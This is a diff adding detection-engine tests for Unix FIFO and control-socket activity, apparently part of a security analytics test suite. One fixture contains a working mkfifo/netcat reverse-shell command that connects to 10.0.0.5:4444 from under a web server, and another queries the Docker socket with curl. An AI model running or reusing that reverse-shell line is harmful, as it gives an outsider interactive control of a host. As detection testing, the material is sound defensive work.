@@ -308,3 +308,65 @@ describe('AN1393: DDE', () => {
     assert.deepEqual(names(graph), [])
   })
 })
+
+describe('AN1358: Unix channels', () => {
+  const fifo = { channel: { kind: 'fifo' as const, host: 'LNX1', name: '/tmp/.f' }, act: 'refer' as const }
+  const web = { guid: '{N}', pid: 80, image: '/usr/sbin/nginx', commandLine: 'nginx: worker process' }
+  const shell = {
+    guid: '{S}',
+    pid: 100,
+    image: '/bin/sh',
+    commandLine: 'sh -c mkfifo /tmp/.f; cat /tmp/.f | /bin/sh -i 2>&1 | nc 10.0.0.5 4444 > /tmp/.f',
+  }
+
+  test('a FIFO in /tmp that bridges a shell to the network, below a web server', () => {
+    const [found] = find(
+      graphOf(
+        tell('LNX1')
+          .started(1, shell, web)
+          .observed(1, { ...fifo, actor: shell }),
+      ),
+    )
+    assert.equal(found.by, 'AN1358/fifo-shell')
+    assert.deepEqual(found.reasons.map((one) => one.support).sort(), ['content', 'indicator', 'lineage'])
+  })
+
+  test('a FIFO in a build folder is no finding', () => {
+    const make = { guid: '{M}', pid: 100, image: '/usr/bin/make', commandLine: 'make' }
+    assert.deepEqual(
+      names(
+        graphOf(
+          tell('LNX1')
+            .started(1, make, {})
+            .observed(1, {
+              channel: { ...fifo.channel, name: '/home/ann/build/jobserver' },
+              act: 'refer',
+              actor: make,
+            }),
+        ),
+      ),
+      [],
+    )
+  })
+
+  test('the docker command speaking to its own socket is weighed with what it asks', () => {
+    const curl = {
+      guid: '{C}',
+      pid: 101,
+      image: '/usr/bin/curl',
+      commandLine: 'curl --unix-socket /var/run/docker.sock http://x/containers/json',
+    }
+    const [found] = find(
+      graphOf(
+        tell('LNX1')
+          .started(1, curl, shell)
+          .observed(1, {
+            channel: { kind: 'unix-socket', host: 'LNX1', name: '/var/run/docker.sock' },
+            act: 'refer',
+            actor: curl,
+          }),
+      ),
+    )
+    assert.equal(found.by, 'AN1358/control-socket')
+  })
+})
